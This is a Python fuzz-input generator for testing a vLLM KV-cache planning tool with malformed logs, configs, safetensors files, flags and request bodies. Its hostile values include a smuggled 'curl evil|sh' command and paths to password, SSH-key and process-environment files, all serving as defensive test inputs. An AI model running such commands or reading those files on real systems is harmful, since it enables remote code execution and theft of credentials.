"""Generators of hostile and broken input for every kvroom entry point, shared by the hypothesis tests
(tests/test_hostile_*.py, through ``strategy(gen)``) and the long fuzz run (tools/fuzz.py, with a seeded
``random.Random``).

Each generator takes a ``random.Random``-like object and returns one input: log text or bytes, config.json
text, safetensors file bytes, a list of CLI flags, or a web request body. They start from real material (the
golden logs and configs under tests/golden) and break it: hostile numbers, wrong types, missing keys, deep
nesting, invalid UTF-8, NULs, CR-only line ends, path-like model names.
"""

from __future__ import annotations

import json
import re
import struct
from functools import lru_cache
from pathlib import Path
from typing import Any, Callable

HERE = Path(__file__).resolve().parent
GOLDEN = HERE / "golden"

CATALOG_MODELS = ("meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen3-8B", "google/gemma-3-27b-it",
                  "openai/gpt-oss-20b", "deepseek-ai/DeepSeek-V3")

# numbers a log, a config or a flag may carry when it is cut, hand-edited or hostile
NASTY_NUMBERS = (
    "0", "-0", "-1", "1", "-5", "0.00", "-5.00", "0.0", "1e400", "-1e400", "1e-400", "nan", "NaN", "inf",
    "-inf", "Infinity", "9" * 30, "9" * 5000, "1" + "0" * 18, "18446744073709551616", "4294967296",
    "2147483648", "0x10", "1_000", "1,000,000", "10T", "10t", "1e18", "0.0000001", "99999999999999999999999",
    "131072", "81,920", "16.00", "-1.44", "", " ", "1.2.3", "٣", "１２",
    # issue 14: full-width digits, exponents that end in a plausible number, a 4,000-digit number
    "３２７６８", "３２k", "1e400", "1e-10", "1e308", "4" * 4000,
)
# stands for the fuzz run's HF_TOKEN: tools/fuzz.py replaces it before writing a file (a hostile Hub echoes the
# token into config values and tensor names; it must never be printed)
SECRET_PLACEHOLDER = "@@HF_TOKEN@@"

PATH_NAMES = ("/etc/passwd", "../../x", "../config.json", "file:///etc/passwd", "~/.ssh/id_rsa", "./config.json",
              "/dev/zero", "/proc/self/environ", "C:\\Windows\\win.ini", "\\\\server\\share", "a/../../../etc/passwd",
              "http://127.0.0.1:1/x", "org/model\x00", "~root")

LOG_TEMPLATES = (
    "To serve at least one request with the models's max seq len (131072), (16.00 GiB KV cache is needed, which "
    "is larger than the available KV cache memory (4.21 GiB). Based on the available memory, the estimated maximum "
    "model length is 34480. Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when "
    "initializing the engine.",
    "To serve at least one request with the model's max seq len (131072), (16.0 GiB KV cache is needed, which is "
    "larger than the available KV cache memory (10.0 GiB). Based on the available memory, the estimated maximum "
    "model length is 81904. Try increasing `gpu_memory_utilization` (which also controls CPU memory on the CPU "
    "backend) or decreasing `max_model_len` when initializing the engine. See "
    "https://docs.vllm.ai/en/latest/configuration/conserving_memory/ for more details.",
    "The model's max seq len (131072) is larger than the maximum number of tokens that can be stored in KV cache "
    "(81920). Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when initializing the engine.",
    "No available memory for the cache blocks. Try increasing `gpu_memory_utilization` when initializing the engine.",
    "Free memory on device cuda:0 (79.1/79.19 GiB) on startup is less than desired GPU memory utilization (0.9, "
    "71.27 GiB). Decrease GPU memory utilization or reduce GPU memory used by other processes.",
    "Auto-fit max_model_len: reduced from 131072 to 81920 to fit in available GPU memory (10.0 GiB available for "
    "KV cache)",
    "Cannot auto-fit max_model_len: not enough GPU memory available to serve even a single token. Try increasing "
    "`gpu_memory_utilization`.",
    "# GPU blocks: 5970, # CPU blocks: 682",
    "GPU KV cache size: 81,920 tokens, Maximum concurrency for 32,768 tokens per request: 2.50x",
    "Maximum concurrency for 131072 tokens per request: 0.73x",
    "Available KV cache memory: 51.38 GiB",
    "Model loading took 14.99 GiB memory and 31.46 seconds",
    "Auto-fit max_model_len: full model context length 131072 fits in available GPU memory",
    "Auto-fit max_model_len: full model context length 131072 fits in available KV cache memory (12.50 GiB)",
    "max_num_seqs (256) exceeds available Mamba cache blocks (128)",
    "CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79.19 GiB",
    "User-specified max_model_len (131072) is greater than the derived max_model_len (max_position_embeddings="
    "32768.0 or model_max_length=None in model's config.json). To allow overriding this maximum, set the env var "
    "VLLM_ALLOW_LONG_MAX_MODEL_LEN=1.",
    "vLLM API server version 0.11.0",
    "non-default args: {'model': 'meta-llama/Llama-3.1-8B-Instruct', 'max_model_len': 131072, "
    "'tensor_parallel_size': 2, 'gpu_memory_utilization': 0.9, 'kv_cache_dtype': 'fp8'}",
    "Initializing a V1 LLM engine (v0.10.1) with config: model='Qwen/Qwen3-8B', max_seq_len=40960, "
    "tensor_parallel_size=1, pipeline_parallel_size=1, kv_cache_dtype=auto",
    "vllm serve meta-llama/Llama-3.1-8B-Instruct --max-model-len 131072 -tp 2 --gpu-memory-utilization 0.95",
)
PREFIXES = ("", "ERROR 05-12 10:11:12 [core.py:123] ValueError: ", "(EngineCore_DP0 pid=1) INFO 05-12 10:11:12 "
            "[kv_cache_utils.py:1] ", "[rank0]: ", "> ", "vllm-1  | ", "\x1b[31m", "**", "```\n")
EOLS = ("\n", "\r\n", "\r", "\n\n", "")

_NUMBER = re.compile(r"\d[\d,]*(?:\.\d+)?")


@lru_cache(maxsize=1)
def golden_log_lines() -> tuple[str, ...]:
    lines: list[str] = []
    for path in sorted((GOLDEN / "logs").glob("*.json")):
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except ValueError:
            continue
        if isinstance(data, dict) and isinstance(data.get("log"), list):
            lines.extend(str(x) for x in data["log"])
    return tuple(lines)


@lru_cache(maxsize=1)
def golden_configs() -> tuple[dict[str, Any], ...]:
    out = []
    for path in sorted((GOLDEN / "configs").glob("*.json")):
        data = json.loads(path.read_text(encoding="utf-8"))
        out.append(data.get("config", data) if isinstance(data.get("config"), dict) else data)
    return tuple(out)


def _renumber(rnd, text: str) -> str:
    """Replace some numbers in ``text`` with hostile ones."""
    return _NUMBER.sub(lambda m: rnd.choice(NASTY_NUMBERS) if rnd.random() < 0.5 else m.group(0), text)


def _mangle_bytes(rnd, data: bytes) -> bytes:
    for _ in range(rnd.randrange(4)):
        pos = rnd.randrange(len(data) + 1)
        junk = rnd.choice((b"\x00", b"\xff\xfe", b"\xc3", b"\xe2\x82", b"\r", b"\x1b[0m", b"\xed\xa0\x80",
                           bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 16)))))
        data = data[:pos] + junk + data[pos:]
    if data and rnd.random() < 0.2:  # cut anywhere, mid-character or mid-number
        data = data[: rnd.randrange(len(data))]
    return data


def log_input(rnd) -> bytes:
    """A vLLM log as bytes: real lines and templates with hostile numbers, path-like model names, junk bytes,
    NULs, CR-only or missing line ends, sometimes one very long line."""
    parts: list[str] = []
    sources = LOG_TEMPLATES + golden_log_lines()
    for _ in range(rnd.randrange(1, 8)):
        line = rnd.choice(sources)
        if rnd.random() < 0.7:
            line = _renumber(rnd, line)
        if rnd.random() < 0.3:
            name = rnd.choice(PATH_NAMES + CATALOG_MODELS)
            line = rnd.choice((f"non-default args: {{'model': {name!r}, 'max_model_len': {rnd.choice(NASTY_NUMBERS)}}}",
                               f"Initializing a V1 LLM engine (v0.10.1) with config: model='{name}', "
                               f"max_seq_len={rnd.choice(NASTY_NUMBERS)}, tensor_parallel_size="
                               f"{rnd.choice(NASTY_NUMBERS)}",
                               f"vllm serve {name} --max-model-len {rnd.choice(NASTY_NUMBERS)}"))
        if rnd.random() < 0.1:
            cut = rnd.randrange(len(line) + 1)
            line = line[:cut] + rnd.choice(("\n", "\r", " ", "\x00")) + line[cut:]
        parts.append(rnd.choice(PREFIXES) + line + rnd.choice(EOLS))
    if rnd.random() < 0.05:
        unit = rnd.choice(("To serve at least one request with the models's max seq len (", "(((((", "9", "a ",
                           "GPU KV cache size: ", "\x1b[", "**"))
        parts.insert(rnd.randrange(len(parts) + 1), unit * (rnd.randrange(20_000, 200_000) // len(unit)))
    text = "".join(parts)
    if rnd.random() < 0.1:  # PowerShell redirection: UTF-16 with (or, cut, without) a BOM
        data = text.encode(rnd.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig")), "replace")
    else:
        data = text.encode("utf-8", "surrogatepass")
    return _mangle_bytes(rnd, data) if rnd.random() < 0.5 else data


# ---------------------------------------------------------------------------------------------- configs

HOSTILE_VALUES: tuple[Any, ...] = (
    0, -1, 1, 10**12, 10**9, 2**63, -(2**63), 10**30, 0.5, -0.0, 1e308, 3.7, True, False, None, "", "32", "auto",
    [], [1, 2], {}, {"a": 1}, "bfloat16", "float8", [None], ["full_attention"] * 3, 1e-300,
    1e-10, 1e308, SECRET_PLACEHOLDER, [SECRET_PLACEHOLDER], "x $(curl evil|sh) #",
)
# issue 14: RoPE factors and originals that derive 0 or infinite lengths, zero-byte Mamba states, unknown
# quantization methods, a text_config without model_type
ROPE_FACTORS = (1e-10, 1e308, 0.5, 4.0, 32.0, 1, 0, -1, "2", None, 1e-300)
QUANT_METHODS = ("fp8", "awq", "gptq", "zzzquant", "", None, 5, SECRET_PLACEHOLDER, "compressed_tensors", "mxfp4")
RAW_HOSTILE = ("1e400", "-1e400", "9" * 5000, "-" + "9" * 5000, "[" * 100_000 + "]" * 100_000,
               "{\"a\":" * 50_000 + "1" + "}" * 50_000, "NaN", "Infinity", "-Infinity", "1" + "0" * 4000)
CONFIG_KEYS = ("num_hidden_layers", "num_attention_heads", "num_key_value_heads", "head_dim", "hidden_size",
               "intermediate_size", "vocab_size", "max_position_embeddings", "sliding_window", "layer_types",
               "torch_dtype", "dtype", "architectures", "model_type", "text_config", "rope_scaling",
               "rope_parameters", "quantization_config", "kv_lora_rank", "qk_rope_head_dim", "num_local_experts",
               "num_experts_per_tok", "tie_word_embeddings", "use_sliding_window", "max_window_layers",
               "sliding_window_pattern", "attention_chunk_size", "model_max_length", "mamba_d_state",
               "hybrid_override_pattern", "full_attention_interval", "layers_block_type", "n_positions",
               "seq_length", "max_seq_len", "no_rope_layers", "ssm_state_size", "mamba_num_heads",
               "mamba_expand", "mamba_d_head", "mamba_n_heads", "conv_L_cache", "_name_or_path")
_PLACEHOLDER = "\"__kvroom_raw_%d__\""


def config_text(rnd) -> str:
    """A config.json text: a real config with hostile values, wrong types, deleted keys, deep nesting,
    huge numbers (1e400, 5000 digits), or not an object at all."""
    roll = rnd.random()
    if roll < 0.03:
        return rnd.choice(RAW_HOSTILE)
    if roll < 0.05:
        return rnd.choice(("", "null", "[]", "\"x\"", "{", "{\"architectures\": [\"LlamaForCausalLM\"]}", "\x00",
                           "{}" * 3, "\ufeff{}"))
    config = json.loads(json.dumps(rnd.choice(golden_configs())))
    target = config
    if isinstance(config.get("text_config"), dict) and rnd.random() < 0.6:
        target = config["text_config"]
    raws: list[str] = []
    for _ in range(rnd.randrange(1, 5)):
        key = rnd.choice(CONFIG_KEYS + tuple(target))
        action = rnd.random()
        if action < 0.2:
            target.pop(key, None)
        elif action < 0.35:
            target[key] = _PLACEHOLDER.strip('"') % len(raws)
            raws.append(rnd.choice(RAW_HOSTILE))
        elif action < 0.5 and isinstance(target.get(key), (int, float)) and not isinstance(target[key], bool):
            target[key] = target[key] * rnd.choice((10**6, 10**12, -1, 0, 1000, 7))
        else:
            target[key] = rnd.choice(HOSTILE_VALUES)
    if rnd.random() < 0.15:
        target["rope_scaling"] = {"rope_type": rnd.choice(("yarn", "dynamic", "linear", "llama3", SECRET_PLACEHOLDER)),
                                  "factor": rnd.choice(ROPE_FACTORS),
                                  "original_max_position_embeddings": rnd.choice((1, 2, 4096, None, 10**30))}
    if rnd.random() < 0.08:
        config["quantization_config"] = {"quant_method": rnd.choice(QUANT_METHODS),
                                         "bits": rnd.choice((None, 4, 8, 0, "4"))}
    if rnd.random() < 0.05 and isinstance(config.get("text_config"), dict):
        config["text_config"].pop("model_type", None)
    text = json.dumps(config)
    for i, raw in enumerate(raws):
        text = text.replace(_PLACEHOLDER % i, raw)
    return text


def index_text(rnd) -> str | None:
    """A model.safetensors.index.json next to the config (or None)."""
    if rnd.random() < 0.7:
        return None
    total = rnd.choice(("0", "-1", "1" + "0" * 30, "1e400", "9" * 5000, "\"big\"", "null", "1.5", "100000000000",
                        "9" * 4000, "1" + "0" * 3999))
    if rnd.random() < 0.1:  # thousands of shards: refused before any is read
        shards = {f"t{i}": f"model-{i:05d}-of-03000.safetensors" for i in range(rnd.choice((1025, 3000)))}
        return json.dumps({"metadata": {"total_size": 10}, "weight_map": shards})
    return rnd.choice((f'{{"metadata": {{"total_size": {total}}}, "weight_map": {{"a": "m.safetensors"}}}}',
                       "[" * 100_000, "{\"metadata\": 3}", "not json"))


# ---------------------------------------------------------------------------------------------- safetensors

DTYPES = ("BF16", "F16", "F32", "F8_E4M3", "F4", "F6_E2M3", "I64", "BOOL", "Q9", "", "bf16", "F8_E8M0")


def safetensors_bytes(rnd) -> bytes:
    """A safetensors file: a valid start, then hostile: absurd header length (up to 2**64-1, 100 GB), overlapping
    or gapped offsets, negative or huge shapes, unknown dtypes, deep nesting, truncation, trailing bytes."""
    roll = rnd.random()
    if roll < 0.1:
        length = rnd.choice((0, 1, 2, 7, 100_000_001, 100 * 10**9, 2**63, 2**64 - 1, 16, 1 << 20))
        return struct.pack("<Q", length) + bytes(rnd.randrange(64))
    if roll < 0.15:
        return bytes(rnd.randrange(256) for _ in range(rnd.randrange(0, 24)))
    header: dict[str, Any] = {}
    offset = 0
    for i in range(rnd.randrange(0, 6)):
        dtype = rnd.choice(DTYPES[:8]) if rnd.random() < 0.8 else rnd.choice(DTYPES)
        shape = [rnd.choice((1, 2, 3, 4, 8, 64)) for _ in range(rnd.randrange(0, 3))]
        bits = {"BF16": 16, "F16": 16, "F32": 32, "F8_E4M3": 8, "F4": 4, "F6_E2M3": 6, "I64": 64, "BOOL": 8,
                "F8_E8M0": 8}.get(dtype, 8)
        n = 1
        for d in shape:
            n *= d
        size = n * bits // 8
        layer = i if rnd.random() < 0.9 else rnd.choice(("1" * 5000, "9" * 40, "１２", SECRET_PLACEHOLDER))
        name = f"model.layers.{layer}.self_attn.k_proj.weight"
        if rnd.random() < 0.03:
            name = rnd.choice(("x" * 5000, SECRET_PLACEHOLDER, "model.layers." + SECRET_PLACEHOLDER + ".w"))
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + size]}
        offset += size
    for _ in range(rnd.randrange(0, 3)):
        if not header:
            break
        entry = header[rnd.choice(list(header))]
        field = rnd.choice(("dtype", "shape", "data_offsets"))
        entry[field] = rnd.choice(({"x": 1}, None, [-1, 2], [0, 2**70], [5, 1], [0], [2**64, 2**64 + 2],
                                   [10**12] * 4, [-3], "BF16", 1.5, [0, 0], [1, 1], True, [0.5, 1], ["0", "2"]))
    if rnd.random() < 0.1:
        header["__metadata__"] = rnd.choice(({"format": "pt"}, {"a": 1}, [], "x", None))
    raw = json.dumps(header).encode()
    if rnd.random() < 0.05:
        raw = rnd.choice(RAW_HOSTILE).encode()
    if rnd.random() < 0.05:
        raw = raw[:-1] + b"\xff}"
    length = len(raw)
    if rnd.random() < 0.1:
        length = rnd.choice((length + 1, length - 1, length * 1000, 100_000_000))
    data_len = offset + rnd.choice((0, 0, 0, 1, -1))
    return struct.pack("<Q", max(0, length)) + raw + bytes(max(0, data_len))


# ---------------------------------------------------------------------------------------------- flags

INT_FLAGS = ("--max-model-len", "--kv-cache-memory-bytes", "--block-size", "-tp", "-pp", "--max-num-batched-tokens",
             "--max-num-seqs", "--num-gpu-blocks-override")
FLAG_VALUES = NASTY_NUMBERS + ("auto", "-1", "1000000", "10**30", str(10**30), "1" + "0" * 15, "32K", "32k",
                               "1P", "1E", "0.5", "4", "2", "16", "1024", "1G", "7", "256", "３２k")
OTHER_FLAGS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("--gpu-memory-utilization", ("0", "1", "0.9", "1.0000001", "nan", "NaN", "inf", "-inf", "-0.5", "1e-320",
                                  "2", "", "0x1", "1e400", "9" * 400)),
    ("--gpu", ("L4", "H100", "H100x1000000", "L4x0", "L4x-1", "A100-40GB", "nope", "L4x" + "9" * 30, "", "x")),
    ("--gpu-memory", ("0", "-1GiB", "1e400GiB", "80GB", "1GiB", "10**30", "9" * 400 + "TiB", "nan", "1e-9")),
    ("--free-memory", ("0", "1GiB", "-1GiB", "1e400", "9" * 40 + "GiB", "nan", "0.4b", "1e400 GiB")),
    ("--kv-cache-dtype", ("auto", "fp8", "int4", "", "fp8_e5m2", "bfloat16", "\x00")),
    ("--vllm-version", ("0.33.0", "0.5.5", "0.8.3", "99999999999999999999.1", "x", "-1", "0.0.0", "0.13")),
    ("--attention-backend", ("FLASH_ATTN", "FLASHINFER", "nope", "", "auto", "PALLAS", "flash_attn")),
    ("--mamba-ssm-cache-dtype", ("auto", "float32", "int3")),
)
SWITCHES = ("--enforce-eager", "--disable-hybrid-kv-cache-manager", "--disable-sliding-window", "--platform=cpu",
            "--usage-context=llm", "--enable-chunked-prefill", "--no-enable-chunked-prefill")


def plan_flags(rnd) -> list[str]:
    """``kvroom plan`` flags with hostile values (always ``--flag=value`` so values may start with '-')."""
    flags: list[str] = []
    if rnd.random() < 0.8:
        flags.append("--gpu=" + rnd.choice(("L4", "H100", "A100-40GB")) if rnd.random() < 0.6
                     else "--kv-cache-memory-bytes=" + rnd.choice(("8G", "1", "0", str(10**30), "80G")))
    for _ in range(rnd.randrange(0, 5)):
        if rnd.random() < 0.6:
            flags.append(f"{rnd.choice(INT_FLAGS)}={rnd.choice(FLAG_VALUES)}")
        else:
            name, values = rnd.choice(OTHER_FLAGS)
            flags.append(f"{name}={rnd.choice(values)}")
    if rnd.random() < 0.3:
        flags.append(rnd.choice(SWITCHES))
    return flags


# ---------------------------------------------------------------------------------------------- web bodies

WEB_FIELDS = ("model", "config", "max_model_len", "kv_cache_memory_bytes", "max_num_batched_tokens", "max_num_seqs",
              "block_size", "tensor_parallel_size", "pipeline_parallel_size", "num_gpu_blocks_override",
              "kv_cache_dtype", "gpu", "gpus", "kv_cache_dtypes", "vllm_version", "attention_backend", "platform",
              "enforce_eager", "disable_hybrid_kv_cache_manager", "disable_sliding_window", "gpu_memory_utilization",
              "text", "free_memory", "gpu_memory")


def json_value(rnd, depth: int = 0) -> Any:
    roll = rnd.random()
    if depth > 3 or roll < 0.5:
        return rnd.choice(HOSTILE_VALUES + tuple(PATH_NAMES) + CATALOG_MODELS + ("L4", "H100", "fp8", "32K", "0.9",
                                                                                "nan", "1e400", 1e308, -1e308))
    if roll < 0.75:
        return [json_value(rnd, depth + 1) for _ in range(rnd.randrange(4))]
    return {rnd.choice(WEB_FIELDS): json_value(rnd, depth + 1) for _ in range(rnd.randrange(4))}


def web_body(rnd) -> bytes:
    """A POST body: a plausible request with hostile fields, any JSON value, or not JSON at all."""
    roll = rnd.random()
    if roll < 0.05:
        return rnd.choice(RAW_HOSTILE + ("", "null", "[]", "1", "\"x\"", "{", "\xff")).encode("utf-8", "replace")
    if roll < 0.15:
        return json.dumps(json_value(rnd)).encode()
    body: dict[str, Any] = {"model": rnd.choice(CATALOG_MODELS), "gpu": "L4"}
    if rnd.random() < 0.2:
        body = {"model": rnd.choice(PATH_NAMES)}
    for _ in range(rnd.randrange(0, 5)):
        name = rnd.choice(WEB_FIELDS)
        if name == "config" and rnd.random() < 0.5:
            body[name] = config_text(rnd) if rnd.random() < 0.5 else json.loads(json.dumps(rnd.choice(golden_configs())))
        elif name == "text" and rnd.random() < 0.5:
            body[name] = log_input(rnd).decode("utf-8", "replace")
        else:
            body[name] = json_value(rnd)
    text = json.dumps(body)
    if rnd.random() < 0.05:
        text = text.replace("\"L4\"", "1e400", 1)
    return text.encode()


def strategy(gen: Callable[[Any], Any]):
    """A hypothesis strategy drawing from ``gen`` with hypothesis' own (derandomizable) Random."""
    from hypothesis import strategies as st

    return st.randoms(use_true_random=False).map(gen)


# ---------------------------------------------------------------------------------------------- Python API

API_FIELDS = ("vllm_version", "gpu_memory_utilization", "max_model_len", "block_size", "kv_cache_dtype", "gpu",
              "enforce_eager", "tensor_parallel_size", "free_memory_bytes", "attention_backend", "max_num_seqs",
              "max_num_batched_tokens", "kv_cache_memory_bytes", "platform", "enable_chunked_prefill", "bogus_flag")
API_VALUES: tuple[Any, ...] = (None, "0.9", 0.9, "2", 2, True, "false", [], {}, 1e308, float("nan"), -1, "L4",
                               "0.33.0", 0.33, b"x", ("L4",), "auto", "fp8", "H100x2")


def api_call(rnd) -> tuple[str, Any, dict[str, Any]]:
    """(function, first argument, keyword arguments) for kvroom.plan / sweep / explain / load_model with
    values of the wrong type (issue 14: the API raises kvroom errors, never TypeError/AttributeError)."""
    name = rnd.choice(("plan", "plan", "plan", "sweep", "explain", "load_model"))
    first = rnd.choice(CATALOG_MODELS) if rnd.random() < 0.8 else rnd.choice(API_VALUES)
    if name == "explain":
        return name, rnd.choice((None, 5, b"Available KV cache memory: 1.0 GiB", "x", [], LOG_TEMPLATES[0])), {}
    if name == "load_model":
        return name, first, {} if rnd.random() < 0.5 else {"revision": rnd.choice(API_VALUES)}
    kwargs = {"gpu": "L4"} if rnd.random() < 0.7 else {}
    for _ in range(rnd.randrange(0, 4)):
        kwargs[rnd.choice(API_FIELDS)] = rnd.choice(API_VALUES)
    if name == "sweep" and rnd.random() < 0.5:
        kwargs["workers"] = rnd.choice((None, 1, "2", -1, True, 1.5))
    return name, first, kwargs
